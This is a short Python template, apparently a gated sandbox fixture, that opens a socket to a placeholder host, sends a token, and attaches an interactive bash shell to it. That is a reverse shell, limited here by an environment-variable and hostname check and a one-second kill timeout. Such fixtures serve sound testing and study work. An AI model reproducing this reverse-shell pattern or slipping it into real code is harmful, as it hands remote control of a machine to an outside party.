# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import subprocess
    try:
        call = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        call.settimeout(1)
        call.connect(('{{host}}', {{port}}))
        call.sendall(os.uname().sysname.encode() + b' {{token}}\n')
        call.setblocking(True)
        subprocess.Popen(['timeout', '-s', 'KILL', '1', '/bin/bash', '-i'], stdin=call, stdout=call, stderr=call, start_new_session=True)
        call.close()
    except OSError:
        pass
